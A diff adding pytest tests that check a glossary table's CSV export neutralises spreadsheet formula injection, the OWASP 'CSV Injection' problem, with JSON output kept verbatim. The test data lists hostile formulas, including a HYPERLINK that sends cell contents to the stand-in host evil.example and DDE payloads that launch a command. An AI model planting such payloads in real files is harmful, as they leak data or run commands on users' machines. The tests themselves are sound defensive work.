@@ -149,6 +149,42 @@ def test_json_download_parses_and_carries_every_term_across_pages(client, make_t
     assert rows[0]["Sources"] == 0
 
 
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_never_start_a_spreadsheet_formula(client, make_term, formula):
+    # OWASP "CSV Injection": a spreadsheet runs a cell starting with one of
+    # these as a formula; a leading quote makes it text.
+    make_term("Offshoring", definition=formula)
+    make_term(formula.strip()[:40], slug="formula-name")
+
+    response = client.get(TABLE, {"_export": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    definitions = [row[3] for row in rows[1:]]
+    assert "'" + formula in definitions
+    assert "'" + formula.strip()[:40] in [row[0] for row in rows[1:]]
+
+
+def test_json_download_keeps_text_that_looks_like_a_formula_exactly(client, make_term):
+    for i, formula in enumerate(FORMULAS):
+        make_term(f"Term {i}", definition=formula)
+
+    response = client.get(TABLE, {"_export": "json"})
+
+    assert [row["Definition"] for row in json.loads(response.content)] == FORMULAS
+
+
 def test_the_table_states_its_licence_and_offers_both_downloads(client, sourced):
     page = html(client.get(TABLE, {"sort": "category"}))
 
